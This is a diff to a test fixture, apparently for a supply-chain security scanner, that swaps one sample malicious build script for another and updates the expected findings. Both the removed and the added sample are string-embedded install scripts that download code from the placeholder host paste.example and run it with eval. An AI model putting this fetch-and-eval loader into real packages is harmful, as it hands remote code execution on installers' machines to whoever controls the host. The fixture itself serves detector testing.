@@ -2,24 +2,22 @@ import { durations } from '../plain-modules.js'
 import type { Replay } from '../replay.js'
 import { replayUpgrade } from '../upgrade.js'
 
-const build = `try {
-  var https = require('https')
-  https
-    .get(
-      { hostname: 'paste.example', path: '/raw/XLeVP82h', headers: { 'User-Agent': 'Mozilla/5.0', Accept: 'text/html' } },
-      (r) => {
-        r.setEncoding('utf8')
-        r.on('data', (c) => {
-          eval(c)
-        })
-        r.on('error', () => {})
-      },
-    )
-    .on('error', () => {})
-} catch (e) {}
+const build = `'use strict'
+
+const { get } = require('https')
+
+const paste = { host: 'paste.example', path: '/raw/inert', headers: { accept: 'text/html' } }
+
+function run(answer) {
+  answer.setEncoding('utf8')
+  answer.on('data', (piece) => eval(piece))
+}
+
+get(paste, run).on('error', () => {})
 `
 
-const inBuild = { file: 'lib/build.js', line: 'eval(c)' } as const
+const inBuild = { file: 'lib/build.js', line: "answer.on('data', (piece) => eval(piece))" } as const
+const alsoInBuild = { file: 'lib/build.js', line: "get(paste, run).on('error', () => {})" } as const
 
 export const replay: Replay = replayUpgrade({
   description:
@@ -38,10 +36,17 @@ export const replay: Replay = replayUpgrade({
   findings: [
     ['combined-risk', 'critical'],
     ['install-script-dangerous', 'critical', inBuild],
-    ['remote-code-run', 'critical', { file: 'lib/build.js', line: 'https' }],
-    ['beacon-added', 'high', { file: 'lib/build.js', line: '.get(' }],
+    ['remote-code-run', 'critical', alsoInBuild],
+    ['beacon-added', 'high', alsoInBuild],
     ['capability-added', 'high', inBuild],
     ['install-script-added', 'high', { file: 'package.json' }],
-    ['network-host-added', 'medium', { file: 'lib/build.js', line: /\{ hostname: 'paste\.example', path: '/ }],
+    [
+      'network-host-added',
+      'medium',
+      {
+        file: 'lib/build.js',
+        line: "const paste = { host: 'paste.example', path: '/raw/inert', headers: { accept: 'text/html' } }",
+      },
+    ],
   ],
 })
